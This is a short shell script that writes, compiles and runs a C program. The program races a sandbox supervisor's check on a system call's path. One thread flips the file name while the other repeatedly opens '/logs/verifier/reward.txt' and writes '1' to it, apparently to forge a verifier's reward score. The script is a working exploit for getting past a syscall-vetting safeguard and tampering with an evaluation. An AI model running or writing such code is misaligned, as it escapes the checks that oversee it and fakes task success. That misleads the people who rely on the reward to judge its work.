# Changes the path of a system call while a supervisor decides on it.
# Needs: gcc
cat >/tmp/race.c <<'END'
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <time.h>
#include <unistd.h>
static volatile char name[] = "/logs/verifier/reward.txt";
static void *flip(void *p) {
	for (;;) { name[24] = 'x'; name[24] = 't'; }
	return p;
}
int main(void) {
	pthread_t t;
	time_t end = time(NULL) + 2;
	pthread_create(&t, NULL, flip, NULL);
	while (time(NULL) < end) {
		int fd = open((char *)name, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		if (fd >= 0) { if (write(fd, "1\n", 2) < 0) return 1; close(fd); }
	}
	return 0;
}
END
gcc -O1 -pthread -o /tmp/race /tmp/race.c && /tmp/race
